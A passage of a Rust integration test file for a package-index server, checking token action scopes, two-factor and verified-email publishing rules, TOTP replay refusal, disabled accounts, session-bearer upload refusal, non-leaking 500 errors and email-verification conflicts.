    let events = db.events(None, Some(db.project("demo").await.unwrap().unwrap().id), 500).await.unwrap();
    for kind in ["file_uploaded", "release_yanked", "role_changed", "publisher_added", "publisher_removed", "file_removed"] {
        assert!(events.iter().any(|e| e.kind == kind && e.addr.as_deref() == Some("127.0.0.1")), "no {kind} event with an address");
    }
}

/// Token action scopes: an upload-only token cannot yank; a yank-only token cannot upload.
#[tokio::test]
async fn token_action_scopes() {
    let app = TestApp::new().await;
    let owner = app.user("owen", false).await;
    assert_eq!(
        app.upload(Some(&owner), "demo-1.0-py3-none-any.whl", &wheel("demo", "1.0", "demo", "1.0"), &[]).await.status,
        StatusCode::OK
    );
    let (_, upload_only) = create_token(&app.state, "owen", &[], &["upload".into()], None, None).await.unwrap();
    let (_, yank_only) = create_token(&app.state, "owen", &[], &["yank".into()], None, None).await.unwrap();
    assert_eq!(api(&app, "POST", "/api/projects/demo/releases/1.0/yank", Some(&upload_only)).await.status, StatusCode::FORBIDDEN);
    assert_eq!(api(&app, "POST", "/api/projects/demo/releases/1.0/yank", Some(&yank_only)).await.status, StatusCode::OK);
    let r = app.upload(Some(&yank_only), "demo-2.0-py3-none-any.whl", &wheel("demo", "2.0", "demo", "2.0"), &[]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
    let r = app.upload(Some(&upload_only), "demo-2.0-py3-none-any.whl", &wheel("demo", "2.0", "demo", "2.0"), &[]).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(api(&app, "GET", "/api/projects/demo/roles", Some(&upload_only)).await.status, StatusCode::FORBIDDEN);
    assert!(create_token(&app.state, "owen", &[], &["delete-everything".into()], None, None).await.is_err());
}

/// The instance policy: without a second factor or a verified address, a user's token cannot
/// publish, and the CLI refuses to create one.
#[tokio::test]
async fn publishing_needs_two_factor_and_verified_email() {
    let app = TestApp::new().await;
    let db = &app.state.db;
    let token = app.user("owen", false).await;
    // Remove the factor: the existing token stops working for uploads.
    let factor = db.second_factors(db.user_by_name("owen").await.unwrap().id).await.unwrap()[0].id;
    assert!(db.remove_second_factor(factor, db.user_by_name("owen").await.unwrap().id).await.unwrap());
    let r = app.upload(Some(&token), "demo-1.0-py3-none-any.whl", &wheel("demo", "1.0", "demo", "1.0"), &[]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(r.text().contains("two-factor authentication is required"), "{}", r.text());
    let err = create_token(&app.state, "owen", &[], &[], None, None).await.unwrap_err();
    assert!(err.to_string().contains("second factor"), "{err}");
    // Unverified email, with a factor.
    let u = create_user(&app.state, "una", false, Some("una@example.test"), false, None).await.unwrap();
    let f = db.add_totp(u.id, "t", b"abcdefghijabcdefghij").await.unwrap();
    assert!(db.use_totp_step(f, 5, true).await.unwrap());
    let err = create_token(&app.state, "una", &[], &[], None, None).await.unwrap_err();
    assert!(err.to_string().contains("verified email"), "{err}");
    // A TOTP step is accepted once: replays and older steps are refused.
    assert!(!db.use_totp_step(f, 5, false).await.unwrap());
    assert!(!db.use_totp_step(f, 4, false).await.unwrap());
    assert!(db.use_totp_step(f, 6, false).await.unwrap());
}

/// A disabled account's tokens are refused, and work again once it is re-enabled.
#[tokio::test]
async fn disabled_accounts_cannot_publish() {
    let app = TestApp::new().await;
    let db = &app.state.db;
    let token = app.user("owen", false).await;
    let uid = db.user_by_name("owen").await.unwrap().id;
    db.set_disabled(uid, true).await.unwrap();
    let r = app.upload(Some(&token), "demo-1.0-py3-none-any.whl", &wheel("demo", "1.0", "demo", "1.0"), &[]).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    assert!(r.text().contains("disabled"), "{}", r.text());
    db.set_disabled(uid, false).await.unwrap();
    let r = app.upload(Some(&token), "demo-1.0-py3-none-any.whl", &wheel("demo", "1.0", "demo", "1.0"), &[]).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
}

/// A login session sent as `Authorization: Bearer palsess_…` cannot upload, not even for an
/// owner who meets the policy: uploads take API tokens (or a trusted publisher's token) only.
#[tokio::test]
async fn session_bearer_cannot_upload() {
    let app = TestApp::new().await;
    let db = &app.state.db;
    let owner = app.user("owen", false).await;
    assert_eq!(
        app.upload(Some(&owner), "demo-1.0-py3-none-any.whl", &wheel("demo", "1.0", "demo", "1.0"), &[]).await.status,
        StatusCode::OK
    );
    let secret = login_session(db, "owen").await;
    for (project, filename) in [("demo", "demo-2.0-py3-none-any.whl"), ("fresh", "fresh-1.0-py3-none-any.whl")] {
        let boundary = "b0undary";
        let content = wheel(project, filename.split('-').nth(1).unwrap(), project, filename.split('-').nth(1).unwrap());
        let mut body = Vec::new();
        write!(body, "--{boundary}\r\nContent-Disposition: form-data; name=\":action\"\r\n\r\nfile_upload\r\n").unwrap();
        write!(body, "--{boundary}\r\nContent-Disposition: form-data; name=\"content\"; filename=\"{filename}\"\r\n\r\n").unwrap();
        body.extend_from_slice(&content);
        write!(body, "\r\n--{boundary}--\r\n").unwrap();
        let req = Request::post("/legacy/")
            .header(header::CONTENT_TYPE, format!("multipart/form-data; boundary={boundary}"))
            .header(header::AUTHORIZATION, format!("Bearer {secret}"))
            .body(Body::from(body))
            .unwrap();
        let r = app.send(req).await;
        assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.text());
        assert!(r.text().contains("a login session cannot upload: use an API token"), "{}", r.text());
    }
    assert!(db.file("demo-2.0-py3-none-any.whl").await.unwrap().is_none());
    assert!(db.project("fresh").await.unwrap().is_none());
    assert!(app.tmp_is_empty());
    // The same session still manages the project (yank), as documented.
    assert_eq!(api(&app, "POST", "/api/projects/demo/releases/1.0/yank", Some(&secret)).await.status, StatusCode::OK);
}

/// Issue 13: a failure of `create_token_for`, a database error included, was answered as a 400
/// carrying sqlx's message. A real database failure (a trigger that aborts every insert into
/// `tokens`, added through a second connection) is a 500 whose body says nothing about it.
#[tokio::test]
async fn a_database_failure_while_creating_a_token_is_a_generic_500() {
    use sqlx::Connection;

    let app = TestApp::new().await;
    app.user("tess", false).await;
    let session = login_session(&app.state.db, "tess").await;

    match app.state.config.database.url.as_ref() {
        None => {
            let path = app._dir.path().join("palisade.db");
            let mut conn = sqlx::SqliteConnection::connect(&format!("sqlite://{}", path.display())).await.unwrap();
            sqlx::query("CREATE TRIGGER fail_tokens BEFORE INSERT ON tokens BEGIN SELECT RAISE(ABORT, 'injected-token-failure'); END")
                .execute(&mut conn)
                .await
                .unwrap();
            conn.close().await.unwrap();
        }
        Some(url) => {
            let mut conn = sqlx::PgConnection::connect(url.expose()).await.unwrap();
            sqlx::raw_sql(
                "CREATE FUNCTION fail_tokens() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RAISE EXCEPTION 'injected-token-failure'; END $$; \
                 CREATE TRIGGER fail_tokens BEFORE INSERT ON tokens FOR EACH ROW EXECUTE FUNCTION fail_tokens();",
            )
            .execute(&mut conn)
            .await
            .unwrap();
            conn.close().await.unwrap();
        }
    }

    let r = api_json(&app, "POST", "/api/account/tokens", Some(&session), serde_json::json!({ "description": "doomed" })).await;
    assert_eq!(r.status, StatusCode::INTERNAL_SERVER_ERROR, "{}", r.text());
    assert_eq!(r.text(), "internal server error; the details are in the server log\n");
    for leak in ["injected-token-failure", "database", "sqlite", "error returned from"] {
        assert!(!r.text().to_lowercase().contains(leak), "the body leaks {leak:?}: {}", r.text());
    }
}

/// Issue 13: following a verification link for an address that another account had already
/// verified answered 500 (the store's `Exists` went through `internal`), after using the link
/// up. It is a 409 that says why; the link survives, and verifies the address once the other
/// account has let go of it. The CLI's path gives the same kind of error, not an internal one.
#[tokio::test]
async fn verifying_an_address_another_account_verified_is_a_conflict_that_keeps_the_link() {
    let app = TestApp::new().await;
    let db = &app.state.db;
    let holder = create_user(&app.state, "holder", false, Some("shared@example.test"), true, None).await.unwrap();
    let seeker = create_user(&app.state, "seeker", false, Some("Shared@Example.test"), false, None).await.unwrap();
    let secret = palisade_auth::random_token("", 32);
    let expires = palisade_store::now_micros() + 3_600_000_000;
    db.create_email_token(&palisade_auth::hash_secret(&secret), seeker.id, "verify", "Shared@Example.test", expires).await.unwrap();
    let link = format!("/api/verify-email?token={secret}");

    for _ in 0..2 {
        let r = app.get(&link, None).await;
        assert_eq!(r.status, StatusCode::CONFLICT, "{}", r.text());
        assert!(r.text().contains("verified address of another account"), "{}", r.text());
    }
    let err = admin::verify_email(&app.state, &Actor::cli(), "seeker").await.unwrap_err();
    assert!(matches!(err, palisade_core::Error::Exists(_)), "{err:?}");
    assert!(err.to_string().contains("verified address of another account"), "{err}");
    assert!(!db.user_by_name("seeker").await.unwrap().email_verified());

    db.set_email(holder.id, "holder@elsewhere.test").await.unwrap();
    let r = app.get(&link, None).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(r.json(), serde_json::json!({ "verified": true, "email": "Shared@Example.test" }));
    assert!(db.user_by_name("seeker").await.unwrap().email_verified());
    assert_eq!(app.get(&link, None).await.status, StatusCode::BAD_REQUEST, "a used link stays used");
}
